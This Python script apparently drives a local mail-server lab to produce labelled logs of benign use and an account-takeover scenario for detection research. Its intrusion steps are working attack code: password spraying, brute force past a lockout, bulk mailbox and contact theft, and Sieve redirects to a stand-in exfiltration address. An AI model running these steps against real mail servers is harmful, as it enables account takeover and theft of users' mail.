#!/usr/bin/env python3
"""Drives the vigie lab (lab/up) through a scenario and writes its ground truth.

    lab/drive.py benign|intrusion [--collect DIR] [--bruteforce N] [--no-wait]

Each party binds its client sockets to its own 127.0.0.x address, so the
servers log that address as the peer (Linux routes all of 127.0.0.0/8 to the
loopback device). Every step is one function below; it records one entry of
the ground truth: who did what to which account, from where, over which
protocol, when (UTC, milliseconds), with what outcome. The ground truth is
written to /var/log/mailstack/ground-truth-<run id>.json; --collect DIR then
copies it, the lab's logs and the sink's messages into DIR (lab/run adds the
mailboxes as DIR/vmail). Python 3 standard library only.
"""

import argparse
import base64
import contextlib
import datetime
import email.message
import email.utils
import functools
import http.client
import http.cookiejar
import imaplib
import json
import os
import re
import shutil
import smtplib
import socket
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

SERVER = "127.0.0.1"
WEBMAIL = "http://127.0.0.1"
DOMAIN = "lab.test"
PASSWORDS = {"alice": "Alice-Lab-2024", "bob": "Bob-Lab-2024", "carol": "Carol-Lab-2024"}
EXFIL = "collector@exfil.example"
SINK = "/var/spool/mailstack-sink"
GROUND_TRUTH_DIR = "/var/log/mailstack"

# Who acts from which address (the README's table).
ADDRESSES = {
    "alice_office": "127.0.0.10",  # alice's browser
    "bob_office": "127.0.0.11",  # bob's mail client
    "carol_office": "127.0.0.12",  # carol's browser and mail client
    "partner_mx": "127.0.0.20",  # a partner's MTA
    "attacker_web": "127.0.0.66",  # the attacker's browser
    "attacker_imap": "127.0.0.67",  # the attacker's IMAP / ManageSieve tool
    "attacker_mx": "127.0.0.99",  # the hostile MTA
}
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/126.0.0.0 Safari/537.36")
ATTACKER_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"

# The logs a run collects: path in the run folder -> path on the lab machine.
LOGS = {
    "nginx/roundcube.access.log": "/var/log/nginx/roundcube.access.log",
    "nginx/roundcube.error.log": "/var/log/nginx/roundcube.error.log",
    "roundcube/userlogins.log": "/var/log/roundcube/userlogins.log",
    "roundcube/errors.log": "/var/log/roundcube/errors.log",
    "roundcube/sendmail.log": "/var/log/roundcube/sendmail.log",
    "roundcube/session.log": "/var/log/roundcube/session.log",
    "dovecot.log": "/var/log/dovecot.log",
    "mail.log": "/var/log/mail.log",
    "php8.2-fpm.log": "/var/log/php8.2-fpm.log",
}

# An inert stand-in for the SVG-animate XSS of the webmail campaigns
# (CVE-2024-37383 style): `javascript:void(0)` runs nothing even unwashed.
HOSTILE_HTML = """<html><body>
<p>Hello, please review the shared document below.</p>
<svg><animate attributeName="href" values="javascript:void(0)" begin="0s" dur="1s" fill="freeze"/>
<a id="lab-marker"><text x="20" y="20">Open document</text></a></svg>
<svg><animate xlink:href="#lab-marker" attributeName="href " values="javascript:void('lab-marker')"/></svg>
</body></html>"""


def address(user):
    return f"{user}@{DOMAIN}"


def utc_now():
    return datetime.datetime.now(datetime.timezone.utc)


def stamp(moment):
    return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")


# ----------------------------------------------------------------------------- ground truth
class GroundTruth:
    """The steps of one run, in the order they ran."""

    def __init__(self, scenario):
        self.run_id = utc_now().strftime("%Y%m%dT%H%M%SZ")
        self.scenario = scenario
        self.started = stamp(utc_now())
        self.steps = []

    @contextlib.contextmanager
    def step(self, name, actor, account, src_ip, protocol, malicious, **detail):
        """Records a step around its body; the body sets `outcome` and adds to `detail`.
        A step that raises keeps the outcome `error` and its time."""
        record = {"run_id": self.run_id, "scenario": self.scenario, "step": name, "actor": actor,
                  "account": account, "src_ip": src_ip, "protocol": protocol, "malicious": malicious,
                  "start": stamp(utc_now()), "end": None, "outcome": None, "detail": detail}
        self.steps.append(record)
        print(f"[{record['start']}] {name}: {actor} -> {account} from {src_ip} ({protocol})", flush=True)
        try:
            yield record
        except BaseException as error:
            record["outcome"] = "error"
            record["detail"]["error"] = f"{type(error).__name__}: {error}"
            raise
        finally:
            record["end"] = stamp(utc_now())
            print(f"    {record['outcome']} {json.dumps(record['detail'])[:300]}", flush=True)

    def document(self, error, seconds):
        return {"run_id": self.run_id, "scenario": self.scenario, "started": self.started,
                "finished": stamp(utc_now()), "duration_s": round(seconds, 1), "error": error,
                "addresses": ADDRESSES,
                "accounts": {address(u): {"password": p} for u, p in PASSWORDS.items()},
                "exfil_address": EXFIL, "logs": LOGS, "steps": self.steps}


# ----------------------------------------------------------------------------- clients
class _SourceBoundHTTP(urllib.request.HTTPHandler):
    def __init__(self, source):
        super().__init__()
        self.source = source

    def http_open(self, req):
        connect = functools.partial(http.client.HTTPConnection, source_address=(self.source, 0))
        return self.do_open(connect, req)


class Browser:
    """A browser on Roundcube: cookies, the request token, its own address and user agent."""

    def __init__(self, source, agent):
        self.source = source
        self.agent = agent
        self.opener = urllib.request.build_opener(
            _SourceBoundHTTP(source), urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
        self.token = ""

    def request(self, query, form=None, ajax=False):
        """GET (or POST `form`) `/?query`; returns (status, final URL, body bytes, headers)."""
        headers = {"User-Agent": self.agent, "Accept-Language": "en-US,en;q=0.7"}
        body = None
        if form is not None:
            body = urllib.parse.urlencode(form, doseq=True).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        if ajax:
            headers["X-Requested-With"] = "XMLHttpRequest"
            headers["X-Roundcube-Request"] = self.token
        req = urllib.request.Request(f"{WEBMAIL}/?{query}", data=body, headers=headers)
        try:
            with self.opener.open(req, timeout=60) as resp:
                answer = resp.status, resp.geturl(), resp.read(), resp.headers
        except urllib.error.HTTPError as error:
            answer = error.code, error.geturl(), error.read(), error.headers
        token = re.search(rb'"request_token":"([^"]+)"', answer[2])
        if token:
            self.token = token.group(1).decode()
        return answer

    def page(self, query, form=None, ajax=False):
        """As `request`, with the body as text: (status, final URL, text)."""
        status, url, body, _ = self.request(query, form, ajax)
        return status, url, body.decode("utf-8", "replace")

    def login(self, user, password):
        """Roundcube's login form; returns (logged in, HTTP status, the message shown)."""
        self.page("_task=login")
        form = {"_token": self.token, "_task": "login", "_action": "login", "_timezone": "Europe/Zurich",
                "_url": "", "_user": user, "_pass": password}
        status, url, text = self.page("_task=login", form)
        shown = re.search(r'display_message\("([^"]*)"', text)
        return "_task=mail" in url or '"task":"mail"' in text, status, shown and shown.group(1)

    def logout(self):
        return self.page(f"_task=logout&_token={self.token}")[0]

    def message_uids(self, mailbox="INBOX"):
        query = urllib.parse.urlencode({"_task": "mail", "_action": "list", "_mbox": mailbox, "_page": 1,
                                        "_remote": 1, "_refresh": 1, "_sort": "date_DESC"})
        return [int(uid) for uid in re.findall(r"add_message_row\((\d+)", self.page(query, ajax=True)[2])]

    def open_message(self, uid, preview=False, mailbox="INBOX"):
        """Shows a message (full page, or the preview pane); returns (status, HTML, MIME part ids)."""
        fields = {"_task": "mail", "_action": "preview" if preview else "show", "_uid": uid, "_mbox": mailbox}
        if preview:
            fields["_framed"] = 1
        status, _, text = self.page(urllib.parse.urlencode(fields))
        return status, text, sorted(set(re.findall(r"_part=([0-9.]+)", text)))

    def download_part(self, uid, part, mailbox="INBOX"):
        query = urllib.parse.urlencode({"_task": "mail", "_action": "get", "_mbox": mailbox, "_uid": uid,
                                        "_part": part, "_download": 1, "_token": self.token})
        status, _, body, headers = self.request(query)
        return {"uid": uid, "part": part, "status": status, "bytes": len(body),
                "disposition": headers.get("Content-Disposition", "")}

    def zip_mailbox(self, mailbox="INBOX"):
        """The zipdownload plugin's "download all" as one mbox in a zip."""
        form = {"_token": self.token, "_uid": "*", "_mbox": mailbox, "_mode": "mbox"}
        status, _, body, headers = self.request("_task=mail&_action=plugin.zipdownload.messages", form)
        return status, body, headers.get("Content-Type", "")

    def export_contacts(self):
        query = urllib.parse.urlencode({"_task": "addressbook", "_action": "export", "_source": "0",
                                        "_token": self.token})
        status, _, body, _ = self.request(query)
        return status, body

    def add_contact(self, first, last, mail):
        self.page("_task=addressbook&_action=add&_source=0&_framed=1")
        form = {"_token": self.token, "_source": "0", "_framed": "1", "_firstname": first, "_surname": last,
                "_email[]": [mail], "_subtype_email[]": ["work"]}
        _, _, text = self.page("_task=addressbook&_action=save&_source=0&_framed=1", form)
        return "successfullysaved" in text or "parent.rcmail" in text

    def send(self, to, subject, text):
        """Composes and sends a plain-text message; returns (status, sent)."""
        _, url, page = self.page("_task=mail&_action=compose")
        compose = re.search(r'"compose_id":"([^"]+)"', page) or re.search(r"_id=([0-9a-f]+)", url)
        identity = re.search(r'<select name="_from"[^>]*>.*?<option value="(\d+)"', page, re.S)
        form = {"_token": self.token, "_task": "mail", "_action": "send",
                "_id": compose.group(1) if compose else "", "_attachments": "",
                "_from": identity.group(1) if identity else "", "_to": to, "_cc": "", "_bcc": "",
                "_replyto": "", "_followupto": "", "_subject": subject, "editorSelector": "plain",
                "_priority": "0", "_store_target": "Sent", "_draft_saveid": "", "_draft": "",
                "_is_html": "0", "_framed": "1", "_message": text}
        status, _, answer = self.page("_task=mail&_unlock=loading1&_framed=1", form)
        return status, "sent_successfully" in answer

    def save_filter(self, name, action, target, header=None, contains=None):
        """A rule of the managesieve plugin: `action` (fileinto, redirect_copy...) to `target`,
        for every message, or for those whose `header` contains `contains`."""
        self.page("_task=settings&_action=plugin.managesieve")
        self.page("_task=settings&_action=plugin.managesieve-action&_framed=1&_nav=hide")
        form = {"_token": self.token, "_framed": "1", "_fid": "", "_name": name, "_enabled": "1",
                "_action_type[0]": action}
        form["_action_target[0]" if action.startswith("redirect") else "_action_mailbox[0]"] = target
        if header:
            form.update({"_join": "allof", "_header[0]": header, "_rule_op[0]": "contains",
                         "_rule_target[0]": contains, "_custom_header[0]": "", "_rule_mod[0]": "",
                         "_rule_mod_type[0]": "", "_rule_comp[0]": ""})
        else:
            form["_join"] = "any"
        status, _, text = self.page("_task=settings&_action=plugin.managesieve-save", form)
        return status, "successfullysaved" in text or "managesieve_updatelist" in text


class Imap(imaplib.IMAP4):
    """An IMAP client connecting from `source`."""

    def __init__(self, source):
        self.source = source
        super().__init__(SERVER, 143, timeout=30)

    def _create_socket(self, timeout):
        return socket.create_connection((self.host, self.port), timeout, source_address=(self.source, 0))


class ManageSieve:
    """Just enough of RFC 5804 for a script upload: AUTHENTICATE PLAIN, PUTSCRIPT, SETACTIVE."""

    def __init__(self, source):
        self.sock = socket.create_connection((SERVER, 4190), 30, source_address=(source, 0))
        self.lines = self.sock.makefile("rb")
        self._answer()

    def _answer(self):
        while True:
            line = self.lines.readline()
            if not line:
                raise ConnectionError("ManageSieve closed the connection")
            line = line.decode().rstrip("\r\n")
            if re.match(r"(OK|NO|BYE)\b", line):
                return line

    def command(self, text):
        self.sock.sendall(text.encode() + b"\r\n")
        return self._answer()

    def login(self, user, password):
        plain = base64.b64encode(f"\0{user}\0{password}".encode()).decode()
        return self.command(f'AUTHENTICATE "PLAIN" "{plain}"')

    def put_active(self, name, script):
        """Uploads `script` as `name` and makes it the active one; the two answers."""
        put = self.command(f'PUTSCRIPT "{name}" {{{len(script.encode())}+}}\r\n{script}')
        return [put, self.command(f'SETACTIVE "{name}"')]

    def close(self):
        try:
            self.command("LOGOUT")
        finally:
            self.sock.close()


def message(sender, to, subject, text, html=None, attachments=()):
    mail = email.message.EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, to, subject
    mail["Date"] = email.utils.formatdate()
    mail["Message-ID"] = email.utils.make_msgid(domain=sender.rstrip(">").split("@")[-1])
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    for name, mime, data in attachments:
        main, sub = mime.split("/")
        mail.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return mail


def pdf(title, kib):
    """A PDF-looking attachment of about `kib` KiB."""
    return f"%PDF-1.4\n% lab document: {title}\n".encode() + b"0123456789abcdef" * 64 * kib + b"\n%%EOF\n"


def smtp(source, port, sender, recipients, mail, helo, login=None):
    """Sends `mail` from `source` to port 25 (an MTA) or 587 (a client, with `login`)."""
    with smtplib.SMTP(SERVER, port, local_hostname=helo, source_address=(source, 0), timeout=30) as session:
        session.ehlo(helo)
        if login:
            session.login(*login)
        return session.send_message(mail, from_addr=sender, to_addrs=recipients)


# ----------------------------------------------------------------------------- benign steps
def bob_sends_report(run):
    with run.truth.step("seed_mail_submission", "bob", address("bob"), ADDRESSES["bob_office"],
                        "smtp-submission", False, rcpt=address("alice"),
                        note="authenticated submission with 2 attachments") as step:
        mail = message("Bob <bob@lab.test>", "Alice <alice@lab.test>", "Q3 report and contract draft",
                       "Hi Alice,\nattached the Q3 report and the contract draft.\nBob\n",
                       attachments=[("Q3-report.pdf", "application/pdf", pdf("Q3 report", 40)),
                                    ("contract-draft.pdf", "application/pdf", pdf("contract", 20))])
        smtp(ADDRESSES["bob_office"], 587, address("bob"), [address("alice")], mail, "bob-laptop.lab.test",
             (address("bob"), PASSWORDS["bob"]))
        step["outcome"] = "sent"


def carol_sends_payroll(run):
    with run.truth.step("seed_mail_submission", "carol", address("carol"), ADDRESSES["carol_office"],
                        "smtp-submission", False, rcpt="alice@lab.test,bob@lab.test") as step:
        mail = message("Carol <carol@lab.test>", "alice@lab.test, bob@lab.test", "Payroll export",
                       "Payroll export attached.\n",
                       attachments=[("payroll-2024.csv", "text/csv", b"name,iban,salary\nAlice,CH00 0000,1\n" * 50)])
        smtp(ADDRESSES["carol_office"], 587, address("carol"), [address("alice"), address("bob")], mail,
             "carol-pc.lab.test", (address("carol"), PASSWORDS["carol"]))
        step["outcome"] = "sent"


def inbound_newsletter(run):
    with run.truth.step("inbound_newsletter", "partner", address("alice"), ADDRESSES["partner_mx"], "smtp",
                        False, sender="news@partner.example") as step:
        mail = message("Partner News <news@partner.example>", "alice@lab.test", "Partner newsletter",
                       "Monthly news.\n", html="<html><body><h1>News</h1><p>Monthly news.</p></body></html>")
        smtp(ADDRESSES["partner_mx"], 25, "news@partner.example", [address("alice"), address("bob")], mail,
             "mx.partner.example")
        step["outcome"] = "delivered"
    time.sleep(1.5)  # let LMTP deliver before alice looks


def alice_mistypes_password(run):
    run.alice = Browser(ADDRESSES["alice_office"], FIREFOX)
    with run.truth.step("webmail_login_typo", "alice", address("alice"), run.alice.source, "http", False) as step:
        ok, status, shown = run.alice.login(address("alice"), "Alice-Lab-2O24")
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(http_status=status, message=shown)
    time.sleep(2)


def alice_logs_in(run):
    with run.truth.step("webmail_login", "alice", address("alice"), run.alice.source, "http", False) as step:
        ok, status, shown = run.alice.login(address("alice"), PASSWORDS["alice"])
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(http_status=status, message=shown)
    if not ok:
        raise RuntimeError("alice cannot log in to the webmail: is the lab up (lab/up)?")


def alice_reads_mail(run):
    with run.truth.step("webmail_read", "alice", address("alice"), run.alice.source, "http", False) as step:
        uids = run.alice.message_uids()
        downloads = []
        for uid in uids[:2]:
            _, _, parts = run.alice.open_message(uid)
            downloads += [run.alice.download_part(uid, part) for part in parts[:1]]
        step["outcome"] = "ok"
        step["detail"].update(listed_uids=uids, opened_uids=uids[:2], downloads=downloads)


def alice_adds_contacts(run):
    with run.truth.step("webmail_add_contacts", "alice", address("alice"), run.alice.source, "http",
                        False) as step:
        saved = [run.alice.add_contact("Bob", "Builder", address("bob")),
                 run.alice.add_contact("Carol", "Clerk", address("carol")),
                 run.alice.add_contact("Pat", "Partner", "pat@partner.example")]
        step["outcome"] = "ok" if all(saved) else "partial"
        step["detail"]["saved"] = saved


def alice_replies(run):
    with run.truth.step("webmail_send", "alice", address("alice"), run.alice.source, "http", False,
                        rcpt=address("bob")) as step:
        status, sent = run.alice.send(address("bob"), "Re: Q3 report and contract draft",
                                      "Thanks Bob, looks good.\nAlice\n")
        step["outcome"] = "sent" if sent else "failed"
        step["detail"]["http_status"] = status


def alice_logs_out(run):
    with run.truth.step("webmail_logout", "alice", address("alice"), run.alice.source, "http", False) as step:
        step["detail"]["http_status"] = run.alice.logout()
        step["outcome"] = "ok"


def bob_syncs_imap(run):
    """Bob's desktop client: every header, one body."""
    with run.truth.step("imap_client_sync", "bob", address("bob"), ADDRESSES["bob_office"], "imap",
                        False) as step:
        client = Imap(ADDRESSES["bob_office"])
        client.login(address("bob"), PASSWORDS["bob"])
        client.select("INBOX")
        ids = client.search(None, "ALL")[1][0].split()
        if ids:
            client.fetch(b",".join(ids),
                         "(FLAGS INTERNALDATE RFC822.SIZE BODY.PEEK[HEADER.FIELDS (FROM TO SUBJECT DATE)])")
            client.fetch(ids[-1], "(BODY.PEEK[])")
        client.logout()
        step["outcome"] = "ok"
        step["detail"].update(messages=len(ids), bodies_fetched=min(1, len(ids)))


def carol_files_newsletters(run):
    """A legitimate Sieve rule through the webmail: newsletters into Junk."""
    carol = Browser(ADDRESSES["carol_office"], CHROME)
    with run.truth.step("webmail_sieve_fileinto", "carol", address("carol"), carol.source, "http", False,
                        rule="fileinto Junk if subject contains newsletter") as step:
        ok, _, _ = carol.login(address("carol"), PASSWORDS["carol"])
        status, saved = carol.save_filter("newsletters", "fileinto", "Junk", header="subject",
                                          contains="newsletter")
        carol.logout()
        step["outcome"] = "saved" if saved else "failed"
        step["detail"].update(login_ok=ok, http_status=status)


# ----------------------------------------------------------------------------- intrusion steps
def hostile_mail_arrives(run):
    with run.truth.step("inbound_html_payload", "attacker", address("alice"), ADDRESSES["attacker_mx"], "smtp",
                        True, sender="it-support@lab-test.example",
                        payload="svg/animate attributeName=href javascript: (inert)") as step:
        mail = message("IT Support <it-support@lab-test.example>", "alice@lab.test",
                       "Action required: mailbox quota", "Your mailbox is almost full. Open the document.\n",
                       html=HOSTILE_HTML)
        smtp(ADDRESSES["attacker_mx"], 25, "it-support@lab-test.example", [address("alice")], mail,
             "mail.lab-test.example")
        step["outcome"] = "delivered"
        step["detail"]["message_id"] = mail["Message-ID"]
    time.sleep(1.5)


def victim_opens_it(run):
    alice = Browser(ADDRESSES["alice_office"], FIREFOX)
    with run.truth.step("victim_opens_html_payload", "alice", address("alice"), alice.source, "http",
                        False) as step:
        ok, _, _ = alice.login(address("alice"), PASSWORDS["alice"])
        uids = alice.message_uids()
        uid = uids[0] if uids else None
        status, preview = None, ""
        if uid is not None:
            status, _, _ = alice.open_message(uid)
            _, preview, _ = alice.open_message(uid, preview=True)
        alice.logout()
        step["outcome"] = "opened" if ok else "login_failed"
        step["detail"].update(
            uid=uid, http_status=status,
            payload_fragments_in_rendered_preview={k: k in preview for k in
                                                   ("<svg", "animate", "javascript:", "lab-marker")},
            rendered_svg=[svg[:400] for svg in re.findall(r"<svg.*?</svg>", preview, re.S)])


WRONG_PASSWORDS = ["123456", "password", "Password1", "alice2024", "Welcome1!", "Summer2024", "qwerty",
                   "letmein", "alice", "Alice2024!", "Lab-2024", "changeme"]
SPRAY = [("admin", "admin"), ("info@lab.test", "info"), ("postmaster@lab.test", "postmaster")]


def webmail_password_attack(run):
    """A spray over likely names, then guesses against alice, a fresh session each."""
    guesses = SPRAY + [(address("alice"), p) for p in WRONG_PASSWORDS[:run.args.bruteforce]]
    with run.truth.step("webmail_bruteforce", "attacker", address("alice"), ADDRESSES["attacker_web"], "http",
                        True, attempts=len(guesses), spray_accounts=[u for u, _ in SPRAY]) as step:
        attempts = []
        for user, password in guesses:
            ok, status, shown = Browser(ADDRESSES["attacker_web"], ATTACKER_BROWSER).login(user, password)
            attempts.append({"ts": stamp(utc_now()), "user": user, "ok": ok, "http_status": status,
                             "message": shown})
            time.sleep(0.3)
        step["outcome"] = "unexpected_success" if any(a["ok"] for a in attempts) else "all_failed"
        step["detail"]["attempts"] = attempts


def attacker_logs_in(run):
    """The right password (phished elsewhere), retried past Roundcube's 60 s lockout."""
    with run.truth.step("webmail_login_success_new_ip", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True) as step:
        tries, waited = 0, 0
        while True:
            run.attacker = Browser(ADDRESSES["attacker_web"], ATTACKER_BROWSER)
            ok, _, shown = run.attacker.login(address("alice"), PASSWORDS["alice"])
            tries += 1
            if ok or run.args.no_wait or waited >= 130:
                break
            time.sleep(31)
            waited += 31
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(tries=tries, waited_s=waited, message=shown)
    if not ok:
        print("the attacker could not log in: the webmail steps after it are skipped", file=sys.stderr)
        run.attacker = None


def attacker_reads_everything(run):
    with run.truth.step("webmail_mailbox_browse_and_attachment_download", "attacker", address("alice"),
                        ADDRESSES["attacker_web"], "http", True) as step:
        uids = run.attacker.message_uids()
        downloads = []
        for uid in uids:
            _, _, parts = run.attacker.open_message(uid)
            downloads += [run.attacker.download_part(uid, part) for part in parts]
        step["outcome"] = "ok"
        step["detail"].update(listed_uids=uids, downloads=downloads)


def attacker_zips_mailbox(run):
    with run.truth.step("webmail_zip_download_mailbox", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True, mode="mbox", uids="*") as step:
        status, body, mime = run.attacker.zip_mailbox()
        is_zip = body[:2] == b"PK"
        step["outcome"] = "ok" if status == 200 and is_zip else "failed"
        step["detail"].update(http_status=status, bytes=len(body), content_type=mime, zip_magic=is_zip)


def attacker_exports_contacts(run):
    with run.truth.step("webmail_addressbook_export", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True) as step:
        status, body = run.attacker.export_contacts()
        step["outcome"] = "ok" if status == 200 else "failed"
        step["detail"].update(http_status=status, bytes=len(body), vcards=body.count(b"BEGIN:VCARD"))


def attacker_sets_webmail_redirect(run):
    with run.truth.step("webmail_sieve_redirect", "attacker", address("alice"), ADDRESSES["attacker_web"], "http",
                        True, target=EXFIL, rule="redirect :copy (all messages)",
                        via="roundcube managesieve plugin") as step:
        status, saved = run.attacker.save_filter("sync", "redirect_copy", EXFIL)
        step["outcome"] = "saved" if saved else "failed"
        step["detail"].update(http_status=status, rule_name="sync")


def attacker_sends_as_victim(run):
    with run.truth.step("webmail_send_from_victim", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True, rcpt=address("bob")) as step:
        status, sent = run.attacker.send(address("bob"), "Updated bank details",
                                         "Hi Bob, please use our new bank details for the invoice.\n")
        step["outcome"] = "sent" if sent else "failed"
        step["detail"]["http_status"] = status
    run.attacker.logout()


def imap_password_guessing(run):
    guesses = ["carol", "Carol2024", "123456", "Winter2024!"][:max(1, run.args.bruteforce // 2)]
    with run.truth.step("imap_bruteforce", "attacker", address("carol"), ADDRESSES["attacker_imap"], "imap",
                        True) as step:
        failures = 0
        for password in guesses:
            client = Imap(ADDRESSES["attacker_imap"])
            try:
                client.login(address("carol"), password)
                client.logout()
            except imaplib.IMAP4.error:
                failures += 1
                client.shutdown()
        step["outcome"] = "all_failed" if failures == len(guesses) else "unexpected_success"
        step["detail"]["failures"] = failures


def imap_bulk_fetch(run):
    """Every body of every folder of bob's, read-only (BODY.PEEK leaves them unread)."""
    with run.truth.step("imap_bulk_fetch", "attacker", address("bob"), ADDRESSES["attacker_imap"], "imap", True,
                        note="all folders, full bodies") as step:
        client = Imap(ADDRESSES["attacker_imap"])
        client.login(address("bob"), PASSWORDS["bob"])
        count, size = 0, 0
        for line in client.list()[1]:
            folder = line.decode().rsplit(' "/" ', 1)[-1].strip('"')
            kind, exists = client.select(f'"{folder}"', readonly=True)
            if kind != "OK" or int(exists[0]) == 0:
                continue
            for item in client.fetch("1:*", "(UID RFC822.SIZE BODY.PEEK[])")[1]:
                if isinstance(item, tuple):
                    count += 1
                    size += len(item[1])
        client.logout()
        step["outcome"] = "ok"
        step["detail"].update(messages=count, bytes=size)


def managesieve_redirect(run):
    with run.truth.step("managesieve_redirect", "attacker", address("bob"), ADDRESSES["attacker_imap"],
                        "managesieve", True, target=EXFIL, script="backup") as step:
        session = ManageSieve(ADDRESSES["attacker_imap"])
        answers = [session.login(address("bob"), PASSWORDS["bob"])]
        answers += session.put_active("backup", f'require ["copy"];\r\nredirect :copy "{EXFIL}";\r\n')
        session.close()
        step["outcome"] = "ok" if all(a.startswith("OK") for a in answers) else "failed"
        step["detail"]["responses"] = answers


def ordinary_mail_triggers_redirects(run):
    """Carol's everyday mail to both victims: their redirect rules send copies to the sink."""
    time.sleep(1)
    before = set(os.listdir(SINK)) if os.path.isdir(SINK) else set()
    with run.truth.step("trigger_redirect", "carol", "alice@lab.test,bob@lab.test", ADDRESSES["carol_office"],
                        "smtp-submission", False,
                        note=f"benign mail; redirect rules of alice and bob forward copies to {EXFIL}") as step:
        mail = message("Carol <carol@lab.test>", "alice@lab.test, bob@lab.test", "Board minutes",
                       "Minutes attached.\n",
                       attachments=[("board-minutes.pdf", "application/pdf", pdf("minutes", 8))])
        smtp(ADDRESSES["carol_office"], 587, address("carol"), [address("alice"), address("bob")], mail,
             "carol-pc.lab.test", (address("carol"), PASSWORDS["carol"]))
        time.sleep(3)  # LMTP delivery, Sieve, then Postfix to the sink
        after = set(os.listdir(SINK)) if os.path.isdir(SINK) else set()
        step["outcome"] = "sent"
        step["detail"]["new_sink_files"] = sorted(after - before)


BENIGN = [bob_sends_report, carol_sends_payroll, inbound_newsletter, alice_mistypes_password, alice_logs_in,
          alice_reads_mail, alice_adds_contacts, alice_replies, alice_logs_out, bob_syncs_imap,
          carol_files_newsletters]
INTRUSION = [hostile_mail_arrives, victim_opens_it, webmail_password_attack, attacker_logs_in,
             attacker_reads_everything, attacker_zips_mailbox, attacker_exports_contacts,
             attacker_sets_webmail_redirect, attacker_sends_as_victim, imap_password_guessing, imap_bulk_fetch,
             managesieve_redirect, ordinary_mail_triggers_redirects]
# Steps that need the attacker's webmail session.
NEEDS_ATTACKER = {attacker_reads_everything, attacker_zips_mailbox, attacker_exports_contacts,
                  attacker_sets_webmail_redirect, attacker_sends_as_victim}


class Run:
    """What the steps of one scenario share."""

    def __init__(self, truth, args):
        self.truth = truth
        self.args = args
        self.alice = None
        self.attacker = None


def collect(folder, ground_truth):
    """Copies the logs (the run folder's layout: `LOGS`), the ground truth and the sink into `folder`."""
    os.makedirs(folder, exist_ok=True)
    for name, path in LOGS.items():
        if os.path.exists(path):
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            shutil.copyfile(path, os.path.join(folder, name))
    shutil.copyfile(ground_truth, os.path.join(folder, os.path.basename(ground_truth)))
    if os.path.isdir(SINK):
        shutil.copytree(SINK, os.path.join(folder, "smtp-sink"), dirs_exist_ok=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("scenario", choices=["benign", "intrusion"])
    parser.add_argument("--collect", metavar="DIR", help="copy the logs, sink and ground truth into DIR")
    parser.add_argument("--bruteforce", type=int, default=8,
                        help="wrong passwords tried against alice's webmail (default 8)")
    parser.add_argument("--no-wait", action="store_true", help="do not wait out Roundcube's login lockout")
    args = parser.parse_args()

    truth = GroundTruth(args.scenario)
    run = Run(truth, args)
    began = time.monotonic()
    error = None
    try:
        for step in BENIGN if args.scenario == "benign" else INTRUSION:
            if step in NEEDS_ATTACKER and run.attacker is None:
                continue
            step(run)
    except Exception as failure:  # the ground truth keeps what did run
        error = f"{type(failure).__name__}: {failure}"
        print(f"lab/drive.py: {error}", file=sys.stderr)
    os.makedirs(GROUND_TRUTH_DIR, exist_ok=True)
    path = os.path.join(GROUND_TRUTH_DIR, f"ground-truth-{truth.run_id}.json")
    with open(path, "w") as out:
        json.dump(truth.document(error, time.monotonic() - began), out, indent=2)
    print(f"ground truth: {path} ({len(truth.steps)} steps, {time.monotonic() - began:.0f} s)")
    if args.collect:
        collect(args.collect, path)
        print(f"collected in {args.collect}")
    return 1 if error else 0


if __name__ == "__main__":
    sys.exit(main())
